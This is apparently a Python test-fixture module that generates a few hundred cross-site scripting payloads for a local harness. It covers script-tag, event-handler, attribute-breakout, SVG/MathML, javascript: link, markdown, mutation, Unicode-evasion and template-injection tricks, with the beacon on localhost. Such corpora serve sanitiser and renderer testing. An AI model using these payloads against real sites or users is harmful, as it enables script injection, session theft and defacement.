"""Texts that try to run a script in a page that shows them. Each tells its number to `ran(NUMBER)`, which `xss.py` defines in
every page, or to its beacon, and marks the elements that it makes with the attribute `fdx`."""
import itertools

BEACON = "http://127.0.0.1:%d/ran"


def html_events(n, call):
    elements = [("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
                ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source", "onerror"), ("iframe src=about:blank", "onload"),
                ("object data=x", "onerror"), ("marquee", "onstart"), ("textarea autofocus", "onfocus"), ("select autofocus", "onfocus"),
                ("p style=animation:none tabindex=1 autofocus", "onfocusin"), ("link rel=stylesheet href=x", "onerror"), ("style", "onload"),
                ("script src=x", "onerror"), ("dialog open", "onbeforetoggle"), ("button popovertarget=x autofocus", "onfocus")]
    return [f"<{element} fdx {event}={call}>" for element, event in elements]


def families(port):
    """Name of a family → its texts, with `%CALL%` where the script goes and `%BEACON%` where an address goes."""
    calls = html_events(0, "%CALL%")
    yield "script tags", [
        "<script>%CALL%</script>", "<SCRIPT>%CALL%</SCRIPT>", "<script\n>%CALL%</script\n>", "<script/x>%CALL%</script>", "<scr<script>ipt>%CALL%</scr</script>ipt>",
        "<script fdx src=%BEACON%></script>", "<script type=module>%CALL%</script>", "<<script>%CALL%//<</script>", "<script>/*<!--*/%CALL%//--></script>",
        "</script><script>%CALL%</script>", "</title><script>%CALL%</script>", "</textarea><script>%CALL%</script>", "</style><script>%CALL%</script>",
        "</noscript><script>%CALL%</script>", "</template><script>%CALL%</script>", "--><script>%CALL%</script>", "]]><script>%CALL%</script>",
        "<script>%CALL%", "<script\x0b>%CALL%</script>", "<script\x0c>%CALL%</script>", "<script defer fdx src=data:text/javascript,%CALL%></script>"]
    yield "event handlers", calls
    yield "event handlers, quoted", [one.replace("=%CALL%", '="%CALL%"') for one in calls]
    yield "event handlers, spaced", [one.replace(" on", "/on").replace("=%CALL%", " = '%CALL%'") for one in calls[:12]] + [one.upper().replace("%CALL%", "&#x25;CALL&#x25;") for one in calls[:4]]
    yield "attribute breakouts", [
        "\" onmouseover=%CALL% fdx x=\"", "' onmouseover=%CALL% fdx x='", "\" autofocus onfocus=%CALL% fdx x=\"", "' autofocus onfocus='%CALL%' fdx x='",
        "\"><img src=x fdx onerror=%CALL%>", "'><img src=x fdx onerror=%CALL%>", "`><img src=x fdx onerror=%CALL%>", "x onfocus=%CALL% autofocus fdx", "\"/><svg fdx onload=%CALL%>",
        "'/><svg fdx onload=%CALL%>", "\" style=\"animation:x\" onanimationend=\"%CALL%\" fdx x=\"", "\n\" autofocus onfocus=\"%CALL%\" fdx x=\"", "&quot; onfocus=%CALL% autofocus fdx x=&quot;",
        "\" href=\"javascript:%CALL%\" fdx x=\"", "\" formaction=\"javascript:%CALL%\" fdx x=\"", "\" srcdoc=\"<script>parent.%CALL%</script>\" fdx x=\"", "\\\" onfocus=%CALL% autofocus fdx x=\\\""]
    yield "svg and mathml", [
        "<svg><script fdx>%CALL%</script></svg>", "<svg><animate fdx onbegin=%CALL% attributeName=x dur=1s>", "<svg><set fdx onbegin=%CALL% attributeName=x>",
        "<svg><a fdx xlink:href=javascript:%CALL%><text y=9>x</text></a></svg>", "<svg><a><animate fdx attributeName=href values=javascript:%CALL%></a></svg>",
        "<svg><use fdx href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>%CALL%</script></svg>#x\"></svg>",
        "<svg><foreignObject><img fdx src=x onerror=%CALL%></foreignObject></svg>", "<math><maction fdx actiontype=statusline xlink:href=javascript:%CALL%>x</maction></math>",
        "<math><mtext><table><mglyph><style><img fdx src=x onerror=%CALL%>", "<math href=javascript:%CALL% fdx>x</math>", "<svg><desc><img fdx src=x onerror=%CALL%></desc></svg>",
        "<svg><style><img fdx src=x onerror=%CALL%></style></svg>", "<svg><title><img fdx src=x onerror=%CALL%></title></svg>", "<svg viewBox=0 fdx onload=%CALL%><image href=x onerror=%CALL%></svg>"]
    yield "links", [
        "javascript:%CALL%", "JaVaScRiPt:%CALL%", " javascript:%CALL%", "\tjava\tscript:%CALL%", "java\nscript:%CALL%", "\x01javascript:%CALL%", "javascript://%0a%CALL%", "javascript&colon;%CALL%",
        "javascript:alert(%N%)", "vbscript:%CALL%", "data:text/html,<script>%CALL%</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=%CALL%>",
        "<a fdx href=javascript:%CALL%>go</a>", "<a fdx href=\"&#106;avascript:%CALL%\">go</a>", "<a fdx href=\"data:text/html,<script>%CALL%</script>\">go</a>", "<form fdx action=javascript:%CALL%><button autofocus>go</button></form>",
        "<button fdx formaction=javascript:%CALL%>go</button>", "<base fdx href=javascript:%CALL%//>", "<iframe fdx src=javascript:parent.%CALL%>", "<embed fdx src=javascript:%CALL%>", "<object fdx data=javascript:%CALL%>",
        "<meta fdx http-equiv=refresh content=\"0;url=javascript:%CALL%\">", "<meta fdx http-equiv=refresh content=\"0;url=%BEACON%\">", "<iframe fdx srcdoc=\"<script>parent.%CALL%</script>\">", "https://x.example/\" onmouseover=%CALL% fdx x=\"",
        "https://x.example/<img fdx src=x onerror=%CALL%>", "https://x.example/?q=%22%3E%3Cimg%20fdx%20src=x%20onerror=%CALL%%3E", "mailto:a@x.example\"onfocus=%CALL% autofocus fdx x=\"", "tel:+1\"onfocus=%CALL%\"555 0100"]
    yield "markdown", [
        "[go](javascript:%CALL%)", "[go]( javascript:%CALL% )", "[go](JAVASCRIPT:%CALL%)", "[go](data:text/html,<script>%CALL%</script>)", "![x](x\"onerror=\"%CALL%)", "![x](javascript:%CALL%)", "![x](%BEACON%)",
        "<javascript:%CALL%>", "[go][1]\n\n[1]: javascript:%CALL%", "**<img fdx src=x onerror=%CALL%>**", "`<img fdx src=x onerror=%CALL%>`", "```html\n<script>%CALL%</script>\n```", "# <img fdx src=x onerror=%CALL%>",
        "> <svg fdx onload=%CALL%>", "| a |\n|---|\n| <img fdx src=x onerror=%CALL%> |", "[1]<img fdx src=x onerror=%CALL%>[1]", "**[1](javascript:%CALL%)**", "[<img fdx src=x onerror=%CALL%>](https://x.example)", "- <details fdx open ontoggle=%CALL%>",
        "[x](https://x.example \"a\" onmouseover=\"%CALL%\")", "https://x.example/**<img fdx src=x onerror=%CALL%>**"]
    yield "mutation", [
        "<noscript><p title=\"</noscript><img fdx src=x onerror=%CALL%>\">", "<listing>&lt;img fdx src=x onerror=%CALL%&gt;</listing>", "<form><math><mtext></form><form><mglyph><style></math><img fdx src=x onerror=%CALL%>",
        "<svg></p><style><a id=\"</style><img fdx src=x onerror=%CALL%>\">", "<math><annotation-xml encoding=text/html><img fdx src=x onerror=%CALL%>", "<select><template><img fdx src=x onerror=%CALL%></template></select>",
        "<table><td><img fdx src=x onerror=%CALL%></table>", "<xmp><p title=\"</xmp><img fdx src=x onerror=%CALL%>\">", "<!--><img fdx src=x onerror=%CALL%>-->", "<!--!><img fdx src=x onerror=%CALL%>-->", "<![CDATA[><img fdx src=x onerror=%CALL%>]]>",
        "<?xml ><img fdx src=x onerror=%CALL%>", "</ p><img fdx src=x onerror=%CALL%>", "<plaintext><img fdx src=x onerror=%CALL%>", "<template shadowrootmode=open><img fdx src=x onerror=%CALL%></template>", "<a<img fdx src=x onerror=%CALL%>"]
    yield "entities and code points", [
        "&lt;img fdx src=x onerror=%CALL%&gt;", "&#60;img fdx src=x onerror=%CALL%&#62;", "&#x3c;script&#x3e;%CALL%&#x3c;/script&#x3e;", "\\u003cimg fdx src=x onerror=%CALL%\\u003e", "\\x3cimg fdx src=x onerror=%CALL%\\x3e",
        "%3Cimg%20fdx%20src=x%20onerror=%CALL%%3E", "＜img fdx src=x onerror=%CALL%＞", "‹script›%CALL%‹/script›", "<\u200bimg fdx src=x onerror=%CALL%>", "<img\u2028fdx src=x onerror=%CALL%>", "<img\u00a0fdx src=x onerror=%CALL%>",
        "\u202e<img fdx src=x onerror=%CALL%>", "\u202egnp.exe\u202d<svg fdx onload=%CALL%>", "\u2066<script>%CALL%</script>\u2069", "\ufeff<script>%CALL%</script>", "<ſcript>%CALL%</ſcript>", "<ıframe src=javascript:%CALL%>", "\u0000<img fdx src=x onerror=%CALL%>",
        "<im\u0000g fdx src=x onerror=%CALL%>", "<img fdx src=x one\u0000rror=%CALL%>", "\x1b[31m<img fdx src=x onerror=%CALL%>", "\U0001f600<img fdx src=x onerror=%CALL%>\u0301", "+ADw-script+AD4-%CALL%+ADw-/script+AD4-", "&amp;lt;img fdx src=x onerror=%CALL%&amp;gt;"]
    yield "templates and scripts", [
        "{{%CALL%}}", "${%CALL%}", "{{constructor.constructor('%CALL%')()}}", "<%= %CALL% %>", "#{%CALL%}", "{% include '%CALL%' %}", "';%CALL%;//", "\";%CALL%;//", "`;%CALL%;//", "\\';%CALL%;//", "</script><svg fdx onload=%CALL%>", "'-%CALL%-'", "\"-%CALL%-\"",
        "${`${%CALL%}`}", "\u2028%CALL%\u2028", "*/%CALL%/*", "-->\n%CALL%\n<!--", "\\\";%CALL%//", "{\"__proto__\":{\"innerHTML\":\"<img fdx src=x onerror=%CALL%>\"}}", "__proto__", "constructor"]
    yield "styles", [
        "<style>@import '%BEACON%';</style>", "<div fdx style=\"background:url(%BEACON%)\">", "x;background:url(%BEACON%)", "x}body{background:url(%BEACON%)}", "\" style=\"background:url(%BEACON%)\" fdx x=\"", "<link fdx rel=stylesheet href=%BEACON%>",
        "<link fdx rel=preload as=image href=%BEACON%>", "<div fdx style=\"width:expression(%CALL%)\">", "<div fdx style=\"-moz-binding:url(%BEACON%)\">", "</style><img fdx src=x onerror=%CALL%>", "#fff;background:url(%BEACON%)", "red\"><img fdx src=x onerror=%CALL%>",
        "<img fdx src=%BEACON%>", "<img fdx srcset=%BEACON%>", "<video fdx poster=%BEACON%>", "<input fdx type=image src=%BEACON%>", "<body fdx background=%BEACON%>", "<table fdx background=%BEACON%>", "<a fdx ping=%BEACON% href=/>x</a>", "<portal fdx src=%BEACON%>"]


def build(port, count=300):
    """So many texts with their family, each with its number; what the families lack is made up by putting one behind another."""
    found = [(family, text) for family, texts in families(port) for text in texts]
    pairs = itertools.cycle(zip(found[::3], found[1::5]))
    while len(found) < count:
        (family, first), (_, second) = next(pairs)
        found.append(("two in one", f"{first} {second}"))
    step = len(found) / count
    chosen = [found[int(n * step)] for n in range(count)]
    calls = ["ran(%d)", "top.ran(%d)", "alert(%d)", "document.title='ran%d'", "fetch('/ran'+%d)", "self['ran'](%d)", "parent.ran(%d)", "(0,eval)('ran(%d)')"]

    def filled(number, text):
        beacon = f"{BEACON % port}{number}"
        return text.replace("%CALL%", calls[number % len(calls)] % number).replace("%N%", str(number)).replace("%BEACON%", beacon)

    return [(family, filled(number, text)) for number, (family, text) in enumerate(chosen)]


if __name__ == "__main__":
    every = build(1)
    print(len([1 for family, texts in families(1) for _ in texts]), "written,", len(every), "chosen,", len({text for _, text in every}), "different")
